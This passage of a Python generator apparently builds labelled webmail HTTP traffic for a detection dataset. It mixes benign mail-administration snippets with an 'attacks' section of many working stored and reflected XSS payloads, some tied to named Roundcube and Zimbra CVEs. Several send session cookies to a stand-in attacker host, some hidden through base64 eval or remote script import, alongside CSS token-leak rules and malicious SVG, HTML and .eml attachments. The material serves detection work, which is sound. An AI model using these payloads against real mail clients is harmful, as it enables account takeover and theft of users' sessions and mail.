    ("nodemailer transport", "javascript", "const nodemailer = require('nodemailer');\nconst transporter = nodemailer.createTransport({\n  host: 'smtp.example.com', port: 587, secure: false,\n  auth: { user: process.env.SMTP_USER, pass: process.env.SMTP_PASS },\n});\nawait transporter.sendMail({\n  from: '\"Reports\" <reports@example.com>', to: 'team@example.com',\n  subject: `Daily report ${new Date().toISOString().slice(0, 10)}`,\n  html: `<h1>Report</h1><table>${rows.map(r => `<tr><td>${escapeHtml(r.name)}</td></tr>`).join('')}</table>`,\n});"),
    ("JMAP fetch from the browser", "javascript", "const res = await fetch('https://api.fastmail-example.com/jmap/api/', {\n  method: 'POST',\n  headers: { 'Authorization': `Bearer ${token}`, 'Content-Type': 'application/json' },\n  body: JSON.stringify({\n    using: ['urn:ietf:params:jmap:core', 'urn:ietf:params:jmap:mail'],\n    methodCalls: [['Email/query', { accountId, filter: { text: query }, limit: 20 }, '0']],\n  }),\n});\nconsole.log((await res.json()).methodResponses[0][1].ids);"),
    ("Apps Script label cleanup", "javascript", "function archiveOldNewsletters() {\n  const threads = GmailApp.search('label:newsletters older_than:30d -is:starred');\n  for (const t of threads) {\n    t.moveToArchive();\n  }\n  Logger.log('archived ' + threads.length);\n}"),
    ("imaplib unread counter", "python", "import imaplib, os\nM = imaplib.IMAP4_SSL('imap.example.com')\nM.login('dana@example.com', os.environ['IMAP_PW'])\nM.select('INBOX', readonly=True)\ntyp, data = M.search(None, '(UNSEEN FROM \"bob@example.com\")')\nprint(len(data[0].split()))\nM.logout()"),
    ("zmprov quota changes", "shell", "zmprov ma alice@example.com zimbraMailQuota 0\nzmprov mc default zimbraMailQuota 10737418240\nzmprov gacf | grep -i zimbraMtaRestriction\nzmlocalconfig -s zimbra_mysql_password   # don't paste the output!\nzmcontrol restart"),
    ("DNS records for the new domain", "dns", "example-new.com.          IN TXT  \"v=spf1 mx include:_spf.example-esp.com -all\"\n_dmarc.example-new.com.   IN TXT  \"v=DMARC1; p=quarantine; rua=mailto:dmarc@example-new.com; adkim=s; aspf=s\"\nmail._domainkey.example-new.com. IN TXT \"v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA%s\"" % alnum(40)),
    ("nginx in front of Roundcube", "nginx", "location ~ ^/(README|INSTALL|LICENSE|CHANGELOG|UPGRADING)$ { deny all; }\nlocation ~ ^/(config|temp|logs)/ { deny all; }\nlocation ~ /\\. { deny all; }\nlocation ~ \\.php$ {\n    include fastcgi_params;\n    fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;\n    fastcgi_pass unix:/run/php/php8.2-fpm.sock;\n}"),
    ("relay denied in mail.log", "log", "Dec  3 09:14:02 mx1 postfix/smtpd[28811]: NOQUEUE: reject: RCPT from unknown[203.0.113.55]: 554 5.7.1 <info@example-other.net>: Relay access denied; from=<x@example-other.net> to=<info@example-other.net> proto=ESMTP helo=<WIN-8F2K1>\nDec  3 09:14:02 mx1 postfix/smtpd[28811]: disconnect from unknown[203.0.113.55] ehlo=1 mail=1 rcpt=0/1 rset=1 quit=1 commands=4/5"),
    ("fail2ban for dovecot", "fail2ban", "[dovecot]\nenabled  = true\nport     = pop3,pop3s,imap,imaps,submission,465,sieve\nfilter   = dovecot\nlogpath  = /var/log/mail.log\nmaxretry = 5\n\n# filter.d/dovecot.local\nfailregex = ^.*imap-login: Disconnected \\(auth failed, \\d+ attempts.*\\): user=<\\S*>, method=\\S+, rip=<HOST>"),
    ("nightly purge cron", "shell", "# m h dom mon dow command\n0 3 * * * /usr/bin/doveadm -v purge -A >> /var/log/doveadm-purge.log 2>&1\n30 3 * * 0 /usr/local/bin/backup-mail.sh --exclude 'Trash/*' --dest /mnt/backup/mail/$(date +\\%Y\\%m\\%d)"),
    ("Roundcube error after PHP upgrade", "log", "[03-Dec-2024 10:22:41 Europe/Berlin] PHP Fatal error:  Uncaught Error: Call to undefined function mb_convert_encoding() in /var/www/roundcube/program/lib/Roundcube/rcube_charset.php:303\nStack trace:\n#0 /var/www/roundcube/program/lib/Roundcube/rcube_mime.php(185): rcube_charset::convert('=?utf-8?B?...', 'UTF-8')\n#1 {main}\n  thrown in /var/www/roundcube/program/lib/Roundcube/rcube_charset.php on line 303"),
    ("Zimbra mailbox.log exception", "log", "2024-12-03 10:41:12,551 WARN  [qtp1187221227-1412:https://mail.example.com/service/soap/SearchRequest] [name=bob@example.com;mid=42;ip=10.0.3.7;] soap - handler exception\ncom.zimbra.common.service.ServiceException: system failure: Mailbox index is being rebuilt\n\tat com.zimbra.common.service.ServiceException.FAILURE(ServiceException.java:290)\n\tat com.zimbra.cs.index.ZimbraQuery.execute(ZimbraQuery.java:412)"),
    ("OpenDKIM tables", "opendkim", "# KeyTable\nmail._domainkey.example.com example.com:mail:/etc/opendkim/keys/example.com/mail.private\n# SigningTable\n*@example.com mail._domainkey.example.com\n# TrustedHosts\n127.0.0.1\n::1\n10.0.0.0/8"),
    ("amavis spam destiny", "perl", "$final_spam_destiny       = D_DISCARD;\n$final_bad_header_destiny = D_PASS;\n$sa_tag_level_deflt  = -999;\n$sa_kill_level_deflt = 6.31;\n@local_domains_maps = ( ['.example.com', '.acme-corp.de'] );"),
    ("rspamd multimap", "rspamd", "# local.d/multimap.conf\nWHITELIST_SENDER_DOMAIN {\n  type = \"from\";\n  filter = \"email:domain\";\n  map = \"/etc/rspamd/local.d/whitelist_domains.map\";\n  action = \"accept\";\n}\nBAD_SUBJECT {\n  type = \"header\"; header = \"Subject\"; regexp = true;\n  map = \"${LOCAL_CONFDIR}/local.d/bad_subjects.map\"; score = 4.0;\n}"),
    ("docker-compose for the test mail server", "yaml", "services:\n  mailserver:\n    image: ghcr.io/docker-mailserver/docker-mailserver:14\n    hostname: mail.example.test\n    ports: [\"25:25\", \"587:587\", \"993:993\"]\n    environment:\n      - ENABLE_RSPAMD=1\n      - ENABLE_FAIL2BAN=1\n    volumes:\n      - ./docker-data/dms/mail-data/:/var/mail/\n      - /etc/localtime:/etc/localtime:ro"),
    ("procmail recipe", "procmail", ":0:\n* ^Subject:.*\\[SPAM\\]\n$HOME/Mail/spam\n\n:0 c\n* ^From:.*boss@example\\.com\n! dana.mobile@example.com"),
    ("mutt config", "muttrc", "set imap_user = \"dana@example.com\"\nset folder = \"imaps://imap.example.com:993\"\nset spoolfile = \"+INBOX\"\nset smtp_url = \"smtp://dana@example.com@smtp.example.com:587/\"\nset ssl_force_tls = yes\nmacro index,pager \\cb \"<pipe-message> urlscan<Enter>\" \"call urlscan to extract URLs\""),
    ("email regex in the signup form", "javascript", "// good enough for the client side; the server does the real check\nconst EMAIL_RE = /^[^\\s@<>()\\[\\]\\\\,;:]+@[^\\s@<>()\\[\\]\\\\,;:]+\\.[a-z]{2,}$/i;\nform.addEventListener('submit', (e) => {\n  if (!EMAIL_RE.test(input.value.trim())) { e.preventDefault(); showError('Please enter a valid address'); }\n});"),
    ("mailbox size report", "powershell", "Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics |\n  Sort-Object TotalItemSize -Descending |\n  Select-Object -First 20 DisplayName, ItemCount, TotalItemSize, LastLogonTime"),
    ("quota loop", "shell", "while read -r u; do\n  printf '%s\\t' \"$u\"\n  doveadm -f flow quota get -u \"$u\" | awk '/STORAGE/ {print $0}'\ndone < users.txt | sort -t$'\\t' -k2 -nr | head -20"),
    ("slow queries from Roundcube cache", "sql", "SHOW FULL PROCESSLIST;\n-- Id 18842, Time 41, Query: SELECT uid, data FROM cache_messages WHERE user_id = 1187 AND mailbox = 'INBOX' AND uid IN (...)\nKILL 18842;\nSET GLOBAL long_query_time = 2;"),
    ("SOGo profile migration", "sql", "ALTER TABLE sogo_user_profile MODIFY c_defaults LONGTEXT;\nUPDATE sogo_user_profile SET c_settings = REPLACE(c_settings, '\"SOGoMailAutoSave\":\"5\"', '\"SOGoMailAutoSave\":\"1\"') WHERE c_uid LIKE '%@example.ch';"),
    ("IIS log lines from the ProxyShell scan (already patched)", "log", "2024-12-02 03:41:17 10.0.0.12 GET /autodiscover/autodiscover.json @evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example&Protocol=XYZ 443 - 198.51.100.77 Mozilla/5.0+zgrab/0.x - 400 0 0 12\n-> all 400s since the November CU; no follow-up requests to /powershell. Closing the ticket."),
    ("sanitising HTML mail in the new client", "javascript", "import DOMPurify from 'dompurify';\n\nexport function cleanMailHtml(html) {\n  return DOMPurify.sanitize(html, {\n    FORBID_TAGS: ['style', 'script', 'form', 'base', 'meta'],\n    FORBID_ATTR: ['onerror', 'onload', 'onclick', 'srcset'],\n    ALLOWED_URI_REGEXP: /^(?:https?|mailto|cid|tel):/i,\n  });\n}\n// remote images stay blocked until the user clicks \"show images\""),
    ("Exim ACL for the submission port", "exim", "acl_check_rcpt:\n  accept  hosts = :\n  deny    message = Restricted characters in address\n          domains = +local_domains\n          local_parts = ^[.] : ^.*[@%!/|]\n  require verify = sender\n  accept  authenticated = *\n          control = submission/domain=\n  deny    message = relay not permitted"),
]


def dev_content():
    transports = ["roundcube", "zimbra", "jmap", "helpdesk", "owa", "nextcloud", "horde", "snappymail"]
    for i, (title, kind, code) in enumerate(DEV_SNIPPETS):
        t = transports[i % len(transports)]
        n, m = person()
        intro = pick(["Hi all,\n\nhere's what I ended up with, feedback welcome:\n\n",
                      "Hallo zusammen,\n\nso sieht die Konfiguration jetzt aus:\n\n",
                      "Ticket update: reproduced it, details below.\n\n",
                      "As discussed in the stand-up — snippet below, please review before I roll it out:\n\n",
                      "Could someone double-check this? It works on staging.\n\n"])
        outro = pick(["\n\nThanks,\n%s" % n.split()[0], "\n\nCheers\n%s" % n.split()[0], "\n\n-- \n%s, IT Operations" % n])
        text = intro + code + outro
        html = "<p>%s</p><pre style=\"font-family:Consolas,monospace;background:#f6f8fa;padding:8px\">%s</pre><p>%s</p>" % (
            xml_escape(intro.strip()).replace("\n", "<br>"), xml_escape(code), xml_escape(outro.strip()).replace("\n", "<br>"))
        subj = "[%s] %s" % (kind, title)
        sub = kind
        if t == "roundcube":
            host = pick(RC_HOSTS)
            is_html = i % 2 == 0
            emit("dev-content", sub, "POST", "/?_task=mail&_unlock=loading%s&_framed=1" % ts_ms(),
                 rc_headers(host, "application/x-www-form-urlencoded", xhr=False),
                 form(rc_send_pairs(host, subj, html if is_html else text, is_html)))
        elif t == "zimbra":
            body = {"_jsns": "urn:zimbraMail", "suid": ts_ms(), "m": {"e": [{"t": "t", "a": "it-ops@example.com"}, {"t": "f", "a": m, "p": n}],
                                                                     "su": {"_content": subj},
                                                                     "mp": [{"ct": "multipart/alternative", "mp": [
                                                                         {"ct": "text/plain", "content": {"_content": text}},
                                                                         {"ct": "text/html", "content": {"_content": html}}]}]},
                    "__cat__": "dev-content", "__sub__": sub}
            zm_soap(pick(ZM_HOSTS), "SendMsgRequest", body, account=m)
        elif t == "jmap":
            acc = jmap_account()
            jmap_emit("dev-content", sub, [["Email/set", {"accountId": acc, "create": {"d1": {
                "mailboxIds": {"P3": True}, "from": [{"name": n, "email": m}], "to": [{"email": "devs@example.org"}],
                "subject": subj, "bodyValues": {"t": {"value": text}, "h": {"value": html}},
                "textBody": [{"partId": "t", "type": "text/plain"}], "htmlBody": [{"partId": "h", "type": "text/html"}]}}}, "0"]])
        elif t == "helpdesk":
            body = {"ticket": {"subject": subj, "comment": {"body": text, "public": False}, "requester": {"name": n, "email": m},
                               "tags": ["mail", kind]}}
            emit("dev-content", sub, "POST", "/api/v2/tickets.json",
                 base_headers("helpdesk.example.org", accept="application/json", ctype="application/json",
                              extra=[["Authorization", "Bearer %s" % alnum(40)]]), json.dumps(body, ensure_ascii=False))
        elif t == "owa":
            body = {"__type": "CreateItemJsonRequest:#Exchange",
                    "Header": {"__type": "JsonRequestHeaders:#Exchange", "RequestServerVersion": "V2018_01_08"},
                    "Body": {"__type": "CreateItemRequest:#Exchange", "MessageDisposition": "SendAndSaveCopy",
                             "Items": [{"__type": "Message:#Exchange", "Subject": subj,
                                        "Body": {"__type": "BodyContentType:#Exchange", "BodyType": "HTML", "Value": html},
                                        "ToRecipients": [{"EmailAddress": "exchange-admins@contoso.com"}]}]}}
            host = pick(OWA_HOSTS)
            emit("dev-content", sub, "POST", "/owa/service.svc?action=CreateItem&app=Mail", owa_headers(host, "CreateItem"),
                 json.dumps(body, ensure_ascii=False))
        elif t == "nextcloud":
            host = pick(NC_HOSTS)
            body = {"accountId": 1, "subject": subj, "body": html, "editorBody": html, "isHtml": True,
                    "to": [{"label": "Admins", "email": "admins@example.com"}], "cc": [], "bcc": [], "attachments": []}
            emit("dev-content", sub, "POST", "/index.php/apps/mail/api/outbox",
                 base_headers(host, accept="application/json", ctype="application/json",
                              cookie="oc_sessionPassphrase=%s; nc_session_id=%s" % (alnum(64), alnum(26)),
                              extra=[["requesttoken", alnum(43) + "=:" + alnum(43) + "="], ["OCS-APIREQUEST", "true"]]),
                 json.dumps(body, ensure_ascii=False))
        elif t == "horde":
            host = pick(HORDE_HOSTS)
            pairs = [("composeCache", hexs(24)), ("from", "0"), ("to", "sysadmins@example-isp.net"), ("subject", subj),
                     ("html", "0"), ("message", text), ("save_sent_mail", "1"), ("token", alnum(22))]
            emit("dev-content", sub, "POST", "/services/ajax.php/imp/sendMessage",
                 base_headers(host, cookie="Horde=%s" % alnum(26).lower(), ctype="application/x-www-form-urlencoded; charset=UTF-8",
                              extra=[["X-Requested-With", "XMLHttpRequest"]]), form(pairs))
        else:
            host = pick(SNAPPY_HOSTS)
            body = {"Action": "SendMessage", "IdentityID": "", "MessageFolder": "Sent", "To": "ops@example.dev", "Subject": subj,
                    "Html": "", "Text": text, "Attachments": []}
            emit("dev-content", sub, "POST", "/?/Json/&q[]=/0/",
                 base_headers(host, accept="application/json", ctype="application/json", extra=[["X-SM-Token", hexs(32)]]),
                 json.dumps(body, ensure_ascii=False))


# ==========================================================================
# attacks
# ==========================================================================

ATK = "attacker-mx.example.net"     # attacker-controlled hosts (reserved names)
OAST = "c7q2m1x9.oast.example.org"


def jesc(obj, chars="<>"):
    """json.dumps, then \\u-escape the given characters (they only occur
    inside JSON strings), as JSON clients / attackers do."""
    s = json.dumps(obj, ensure_ascii=False)
    for c in chars:
        s = s.replace(c, "\\u%04x" % ord(c))
    return s


def rc_send_attack(cat, sub, message, subject=None, is_html=True, to=None, frm=None, extra_pairs=()):
    host = pick(RC_HOSTS)
    pairs = rc_send_pairs(host, subject or pick(SUBJECTS), message, is_html, to=to)
    if frm is not None:
        pairs = [(k, frm if k == "_from" else v) for k, v in pairs]
    pairs += list(extra_pairs)
    return emit(cat, sub, "POST", "/?_task=mail&_unlock=loading%s&_framed=1" % ts_ms(),
                rc_headers(host, "application/x-www-form-urlencoded", xhr=False), form(pairs))


def wrap_mail(payload):
    """Put an HTML payload inside an otherwise normal-looking HTML mail."""
    return ('<html><head><meta charset="utf-8"></head><body><p>%s</p>%s<p>%s</p></body></html>'
            % (pick(["Hi,", "Dear customer,", "Hello team,", "Guten Tag,"]), payload,
               pick(["Kind regards, Accounts", "Thanks!", "See the attached statement.", "Best, IT Service Desk"])))


SVG_USE_INNER = ('<svg id="x" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100">'
                 '<image href="x" onerror="eval(atob(\'ZmV0Y2goJ2h0dHBzOi8vYXR0YWNrZXItbXguZXhhbXBsZS5uZXQvYz9jPScrZG9jdW1lbnQuY29va2llKQ==\'))" /></svg>')

XSS_BODIES = [
    ("rc_cve_2024_37383", '<svg><animate attributeName="href " values="javascript:alert(document.cookie)" href="#x"></animate>'
                          '<a id="x"><text x="20" y="20">Open the invoice</text></a></svg>'),
    ("rc_cve_2023_5631", '<svg><use href="data:image/svg+xml;base64,%s#x"></use></svg>'
                         % base64.b64encode(SVG_USE_INNER.encode()).decode()),
    ("rc_cve_2024_42009", '<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes '
                          'onanimationstart=fetch(\'//%s/c?\'+document.cookie) foo=bar">Your statement is attached.</body>' % ATK),
    ("mxss_noscript", '<noscript><p title="</noscript><img src=x onerror=alert(document.domain)>"></noscript>'),
    ("mxss_math", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'),
    ("mxss_svg_style", '<svg></p><style><a id="</style><img src=1 onerror=fetch(`//%s/?`+document.cookie)>"></svg>' % ATK),
    ("js_entity_tab", '<a href="jav&#x09;ascript&#x3A;alert(document.cookie)">View statement</a>'),
    ("js_entity_full", '<a href="%s">Confirm your mailbox quota</a>' % html_entities("javascript:alert(document.domain)")),
    ("data_uri_link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+" target="_blank">Open secure document</a>'),
    ("iframe_srcdoc", '<iframe srcdoc="&lt;script&gt;parent.location=\'//%s/?c=\'+parent.document.cookie&lt;/script&gt;" width=0 height=0></iframe>' % ATK),
    ("style_import", '<style>@import url("//%s/rc.css");</style><p>Please review.</p>' % ATK),
    ("css_expression", '<div style="width: expression(alert(document.cookie)); color: red">Important notice</div>'),
    ("css_exfil", '<style>input[name="_token"][value^="a"]{background:url(https://%s/leak?t=a)}'
                  'input[name="_token"][value^="b"]{background:url(https://%s/leak?t=b)}'
                  'input[name="_token"][value^="c"]{background:url(https://%s/leak?t=c)}</style>' % (ATK, ATK, ATK)),
    ("img_onerror_atob", '<img src=x onerror="eval(atob(\'ZmV0Y2goJy8vYXR0YWNrZXItbXguZXhhbXBsZS5uZXQvYz9jPScrZG9jdW1lbnQuY29va2llKQ==\'))">'),
    ("details_ontoggle", '<details open ontoggle="alert(document.domain)"><summary>Delivery status</summary></details>'),
    ("object_js", '<object data="javascript:alert(document.cookie)" width="1" height="1"></object>'),
    ("form_action_js", '<form action="javascript:alert(document.cookie)"><input type="password" name="p" placeholder="Re-enter password">'
                       '<input type="submit" value="Verify account"></form>'),
    ("meta_refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base_href_js", '<base href="javascript:/a/-alert(document.cookie)///////"><a href="../invoice">Invoice</a>'),
    ("svg_script_href", '<svg><script xlink:href="data:,alert(document.domain)"></script></svg>'),
    ("math_maction", '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">Click to verify</maction></math>'),
    ("svg_set", '<svg><set attributeName="onmouseover" to="alert(document.cookie)"/><rect width="100%" height="100%"/></svg>'),
    ("overlay_mouseover", '<div onmouseover="alert(document.cookie)" style="position:fixed;top:0;left:0;width:100%;height:100%">&nbsp;</div>'),
    ("table_background", '<table background="javascript:alert(1)"><tr><td>Quarterly report</td></tr></table>'),
    ("foreignobject", '<svg><foreignObject width="100" height="100"><iframe src="javascript:alert(top.document.cookie)"></iframe></foreignObject></svg>'),
    ("nested_script", '<<script>alert(document.cookie)//<</script>'),
    ("svg_entity_parens", '<svg onload=alert&#40;document.domain&#41;>'),
    ("mixed_case_backtick", '<IMG SRC=1 oNeRrOr=prompt`document.cookie`>'),
    ("srcset_onerror", '<img srcset=",,,,x" onerror="new Image().src=\'//%s/?c=\'+document.cookie">' % ATK),
    ("video_source", '<video><source onerror="alert(document.cookie)"></video>'),
    ("moz_binding", '<div style="-moz-binding:url(//%s/xss.xml#xss)">Hello</div>' % ATK),
    ("style_bg_js", '<style>*{background-image:url("javascript:alert(1)")}</style>'),
]


def attacks_xss():
    # stored XSS in HTML mail bodies through every compose API
    sinks = ["roundcube", "roundcube_draft", "zimbra", "jmap", "owa", "ews", "sogo", "nextcloud", "snappymail", "horde",
             "mailgun", "sendgrid", "postmark"]
    for i, (sub, payload) in enumerate(XSS_BODIES):
        sink = sinks[i % len(sinks)]
        msg = wrap_mail(payload)
        if sink == "roundcube":
            rc_send_attack("xss", sub, msg)
        elif sink == "roundcube_draft":
            host = pick(RC_HOSTS)
            pairs = [(k, "savedraft" if k == "_action" else v) for k, v in rc_send_pairs(host, pick(SUBJECTS), msg, True)]
            emit("xss", sub, "POST", "/?_task=mail&_unlock=loading%s&_framed=1" % ts_ms(),
                 rc_headers(host, "application/x-www-form-urlencoded", xhr=False), form(pairs))
        elif sink == "zimbra":
            host = pick(ZM_HOSTS)
            n, m = person()
            payload_obj = {"Header": {"context": zm_context(m)}, "Body": {"SendMsgRequest": {"_jsns": "urn:zimbraMail", "m": {
                "e": [{"t": "t", "a": person()[1]}, {"t": "f", "a": m}], "su": {"_content": pick(SUBJECTS)},
                "mp": [{"ct": "multipart/alternative", "mp": [{"ct": "text/plain", "content": {"_content": "see html"}},
                                                              {"ct": "text/html", "content": {"_content": msg}}]}]}}}}
            emit("xss", sub, "POST", "/service/soap/SendMsgRequest", zm_headers(host), jesc(payload_obj, "<>"))
        elif sink == "jmap":
            acc = jmap_account()
            body = {"using": JMAP_USING, "methodCalls": [["Email/set", {"accountId": acc, "create": {"x": {
                "mailboxIds": {"P2": True}, "from": [{"email": person()[1]}], "to": [{"email": person()[1]}],
                "subject": pick(SUBJECTS), "bodyValues": {"h": {"value": msg}}, "htmlBody": [{"partId": "h", "type": "text/html"}]}}}, "0"]]}
            emit("xss", sub, "POST", "/jmap/api/", jmap_headers(pick(JMAP_HOSTS)), jesc(body, "<>\"'"[:2] if i % 2 else "<>'"))
        elif sink == "owa":
            host = pick(OWA_HOSTS)
            body = {"__type": "CreateItemJsonRequest:#Exchange", "Header": {"__type": "JsonRequestHeaders:#Exchange",
                                                                           "RequestServerVersion": "V2018_01_08"},
                    "Body": {"__type": "CreateItemRequest:#Exchange", "MessageDisposition": "SendAndSaveCopy",
                             "Items": [{"__type": "Message:#Exchange", "Subject": pick(SUBJECTS),
                                        "Body": {"__type": "BodyContentType:#Exchange", "BodyType": "HTML", "Value": msg},
                                        "ToRecipients": [{"EmailAddress": person()[1]}]}]}}
            emit("xss", sub, "POST", "/owa/service.svc?action=CreateItem&app=Mail", owa_headers(host, "CreateItem"), json.dumps(body))
        elif sink == "ews":
            host = pick(OWA_HOSTS)
            b = ('<m:CreateItem MessageDisposition="SendAndSaveCopy"><m:Items><t:Message><t:Subject>%s</t:Subject>'
                 '<t:Body BodyType="HTML">%s</t:Body><t:ToRecipients><t:Mailbox><t:EmailAddress>%s</t:EmailAddress></t:Mailbox>'
                 '</t:ToRecipients></t:Message></m:Items></m:CreateItem>' % (pick(SUBJECTS), xml_escape(msg), person()[1]))
            emit("xss", sub, "POST", "/EWS/Exchange.asmx", ews_headers(host, "CreateItem"), ews_envelope(b))
        elif sink == "sogo":
            host = pick(SOGO_HOSTS)
            user = person()[1]
            body = {"from": user, "to": [person()[1]], "subject": pick(SUBJECTS), "isHTML": True, "content": msg}
            emit("xss", sub, "POST", "/SOGo/so/%s/Mail/0/folderDrafts/newDraft%s-1/save" % (quote(user, safe="@"), ts_ms()),
                 sogo_headers(host), json.dumps(body))
        elif sink == "nextcloud":
            host = pick(NC_HOSTS)
            body = {"accountId": 1, "subject": pick(SUBJECTS), "body": msg, "editorBody": msg, "isHtml": True,
                    "to": [{"label": "x", "email": person()[1]}], "cc": [], "bcc": [], "attachments": []}
            emit("xss", sub, "POST", "/index.php/apps/mail/api/outbox",
                 base_headers(host, accept="application/json", ctype="application/json",
                              extra=[["requesttoken", alnum(43) + "=:" + alnum(43) + "="], ["OCS-APIREQUEST", "true"]]), json.dumps(body))
        elif sink == "snappymail":
            host = pick(SNAPPY_HOSTS)
            body = {"Action": "SendMessage", "IdentityID": "", "MessageFolder": "Sent", "To": person()[1],
                    "Subject": pick(SUBJECTS), "Html": msg, "Text": "", "Attachments": []}
            emit("xss", sub, "POST", "/?/Json/&q[]=/0/",
                 base_headers(host, accept="application/json", ctype="application/json", extra=[["X-SM-Token", hexs(32)]]),
                 jesc(body, "<>"))
        elif sink == "horde":
            host = pick(HORDE_HOSTS)
            pairs = [("composeCache", hexs(24)), ("from", "0"), ("to", person()[1]), ("subject", pick(SUBJECTS)),
                     ("html", "1"), ("message", msg), ("token", alnum(22))]
            emit("xss", sub, "POST", "/services/ajax.php/imp/sendMessage",
                 base_headers(host, cookie="Horde=%s" % alnum(26).lower(), ctype="application/x-www-form-urlencoded; charset=UTF-8",
                              extra=[["X-Requested-With", "XMLHttpRequest"]]), form(pairs))
        elif sink == "mailgun":
            fields = mailgun_fields(pick(SUBJECTS), "see html part", msg)
            emit("xss", sub, "POST", "/webhooks/mailgun/inbound",
                 base_headers(pick(HOOK_HOSTS), ua="Go-http-client/1.1", ctype="application/x-www-form-urlencoded"), form(fields))
        elif sink == "sendgrid":
            ct, body = multipart([("headers", None, None, "From: billing@%s\nSubject: Statement\n" % ATK),
                                  ("to", None, None, "inbound@parse.example-saas.com"), ("from", None, None, "billing@" + ATK),
                                  ("subject", None, None, "Statement"), ("html", None, None, msg), ("text", None, None, "statement"),
                                  ("SPF", None, None, "softfail")], bnd="xYzZY")
            emit("xss", sub, "POST", "/api/inbound/sendgrid", base_headers(pick(HOOK_HOSTS), ua="Sendlib/1.0 parse.sendgrid.net", ctype=ct), body)
        else:
            payload_pm = {"From": "billing@" + ATK, "FromName": "Billing", "To": "support@example-helpdesk.io", "Subject": "Statement",
                          "TextBody": "statement", "HtmlBody": msg, "Headers": [{"Name": "X-Spam-Status", "Value": "No"}], "Attachments": []}
            emit("xss", sub, "POST", "/hooks/postmark/inbound", base_headers(pick(HOOK_HOSTS), ua="Postmark", ctype="application/json"),
                 json.dumps(payload_pm))

    # signatures and identities (stored, shown in every compose)
    sigs = [
        ("sig_svg_onload", '<div>-- <br>Sales Team</div><svg/onload=alert(document.cookie)>'),
        ("sig_img_onerror", '<p>Regards</p><img src="https://%s/logo.png" onerror="alert(document.domain)">' % ATK),
        ("sig_js_href", '<a href="javascript&colon;fetch(\'//%s/\'+document.cookie)">www.example.com</a>' % ATK),
    ]
    for sub, sig in sigs:
        host = pick(RC_HOSTS)
        pairs = [("_token", alnum(32)), ("_task", "settings"), ("_action", "save-identity"), ("_iid", "1"),
                 ("_name", person()[0]), ("_email", person()[1]), ("_signature", sig), ("_html_signature", "1"), ("_framed", "1")]
        emit("xss", sub, "POST", "/?_task=settings&_action=save-identity",
             rc_headers(host, "application/x-www-form-urlencoded", xhr=False), form(pairs))
    host = pick(ZM_HOSTS)
    body = {"Header": {"context": zm_context(person()[1])}, "Body": {"ModifySignatureRequest": {"_jsns": "urn:zimbraAccount", "signature": {
        "id": hexs(8), "name": "Work", "content": [{"type": "text/html", "_content": '<p>Thanks</p><iframe src="javascript:alert(document.cookie)"></iframe>'}]}}}}
    emit("xss", "zimbra_signature", "POST", "/service/soap/ModifySignatureRequest", zm_headers(host), jesc(body, "<>()"))
    acc = jmap_account()
    jmap_emit("xss", "jmap_identity", [["Identity/set", {"accountId": acc, "update": {"I1": {
        "htmlSignature": '<p>Best</p><img src=x onerror=import(\'//%s/s.js\')>' % ATK}}}, "0"]])
    host = pick(RC_HOSTS)
    pairs = [("_token", alnum(32)), ("_task", "settings"), ("_action", "save-identity"), ("_iid", "2"),
             ("_name", '"><svg onload=alert(1)>'), ("_email", person()[1]), ("_signature", ""), ("_framed", "1")]
    emit("xss", "identity_name", "POST", "/?_task=settings&_action=save-identity",
         rc_headers(host, "application/x-www-form-urlencoded", xhr=False), form(pairs))

    # attachments rendered inline: SVG, HTML
    svg = ('<?xml version="1.0" standalone="no"?><svg xmlns="http://www.w3.org/2000/svg" width="200" height="60">'
           '<text x="10" y="30">Invoice #2291</text><script type="text/javascript">fetch("https://%s/c?"+document.cookie)</script></svg>' % ATK)
    ct, body = multipart([("_file[]", "invoice-2291.svg", "image/svg+xml", svg)])
    emit("xss", "upload_svg", "POST", "/?_task=mail&_id=%s&_uploadid=upload%s&_from=compose&_remote=1&_action=upload" % (hexs(26), ts_ms()),
         rc_headers(pick(RC_HOSTS), ct), body)
    html_att = '<html><body><h1>Secure message</h1><script>location="https://%s/owa/?u="+encodeURIComponent(document.cookie)</script></body></html>' % ATK
    ct, body = multipart([("_file[]", "Secure_Message.html", "text/html", html_att)])
    emit("xss", "upload_html", "POST", "/?_task=mail&_id=%s&_uploadid=upload%s&_from=compose&_remote=1&_action=upload" % (hexs(26), ts_ms()),
         rc_headers(pick(RC_HOSTS), ct), body)
    # .eml import with quoted-printable and encoded-word hidden payloads
    for sub, subj, html in [
        ("eml_qp_body", "Statement", '<div>Statement</div><img src=x onerror=alert(document.cookie)>'),
        ("eml_encoded_word_subject", encoded_word('<img src=x onerror=alert(document.domain)>'), "<p>see subject</p>"),
        ("eml_qp_svg", "Fax received", '<svg><animate attributeName=href values=javascript:alert(1) /><a><text y=20>Open fax</text></a></svg>'),
    ]:
        m = eml(subj, "plain part", html, frm="fax@" + ATK)
        ct, body = multipart([("_token", None, None, alnum(32)), ("_file[]", "message.eml", "message/rfc822", m)])
        emit("xss", sub, "POST", "/?_task=mail&_action=import&_mbox=INBOX&_framed=1", rc_headers(pick(RC_HOSTS), ct, xhr=False), body)

    # reflected XSS in webmail URLs
    reflected = [
        ("zimbra_cve_2023_37580", pick(ZM_HOSTS), "/m/momoveto?st=acg%22%2F%3E%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E&id=1&action=move"),
        ("zimbra_h_search", pick(ZM_HOSTS), "/zimbra/h/search?si=1&so=0&sc=709&st=message&sq=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
        ("owa_frowny", pick(OWA_HOSTS), "/owa/auth/frowny.aspx?app=people&et=ServerError&esrc=MasterPage&te=%5C&refurl=%7D%7D%7D%3Balert(document.domain)%2F%2F"),
